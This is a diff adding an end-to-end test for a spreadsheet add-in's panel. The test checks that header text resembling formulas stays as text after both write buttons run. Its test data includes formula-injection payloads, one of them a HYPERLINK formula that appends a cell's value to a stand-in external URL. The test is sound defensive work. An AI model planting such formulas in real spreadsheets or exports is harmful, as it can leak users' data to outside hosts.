@@ -248,6 +248,59 @@ describe('markup in a header stays text in the panel', () => {
   });
 });
 
+/**
+ * Formula injection: a header whose text begins with = + - or @ (typed with the apostrophe that keeps it text)
+ * goes through both write buttons; the only formulas in the workbook afterwards are the COVARY calls the panel
+ * composed, and the header comes back as the same text.
+ */
+describe('headers that look like formulas are written as text by both buttons', () => {
+  const headers = ['=HYPERLINK("http://example.invalid/?"&B2,"open")', '+SUM(B2:B9)', '-1+2', '@NOW()'];
+
+  /** Every entry on a sheet that the grid holds as a formula, with where it is. */
+  async function formulasOn(p: Page, sheet: string): Promise<string[]> {
+    return p.evaluate((sheet) => {
+      const out: string[] = [];
+      for (let c = 1; c <= 40; c++) {
+        const col = c <= 26 ? String.fromCharCode(64 + c) : 'A' + String.fromCharCode(64 + c - 26);
+        for (let r = 1; r <= 60; r++) {
+          const e = window.covaryWorkbench!.entry(`'${sheet}'!${col}${r}`);
+          if (e.startsWith('=')) out.push(e);
+        }
+      }
+      return out;
+    }, sheet);
+  }
+
+  test.each(headers)('%s', async (header) => {
+    await typeInto(page(), 'North', 'K1', `'${header}`);
+    await expect(page().evaluate(() => window.covaryWorkbench!.value('North!K1'))).resolves.toBe(header);
+    await pickTableColumns(page(), 'Households nearby (k)', header);
+
+    await testid(page(), 'btn-formulas').click();
+    await page().waitForFunction(
+      () => /Formulas written|No empty space/.test(document.querySelector('[data-testid="action-status"]')?.textContent ?? ''),
+      undefined,
+      { timeout: 15000 },
+    );
+    await settle(page());
+    const tabsBefore = await page().locator('.wb-tab').count();
+    await testid(page(), 'btn-report').click();
+    await page().waitForFunction((n) => document.querySelectorAll('.wb-tab').length > n, tabsBefore, { timeout: 15000 });
+    await settle(page());
+    const report = (await page().locator('.wb-tab.active').textContent())!.trim();
+
+    const composed = /^=COVARY\.[A-Z_]+\(/;
+    const northFormulas = (await formulasOn(page(), 'North')).filter((f) => !composed.test(f));
+    const reportFormulas = await formulasOn(page(), report);
+    expect(reportFormulas.length).toBeGreaterThanOrEqual(3);
+    expect(reportFormulas.filter((f) => !composed.test(f))).toEqual([]);
+    expect(northFormulas).toEqual([]);
+    const shown = await page().evaluate((sheet) => [window.covaryWorkbench!.value(`'${sheet}'!B2`), window.covaryWorkbench!.value(`'${sheet}'!B3`)], report);
+    expect(shown.some((v) => typeof v === 'string' && v.startsWith(header))).toBe(true);
+    expect(browser.dialogs).toEqual([]);
+  });
+});
+
 describe('after all of the above', () => {
   test('no request left localhost, and the page raised no errors or policy violations', async () => {
     expect(foreignRequests(browser.requests, server.origin)).toEqual([]);
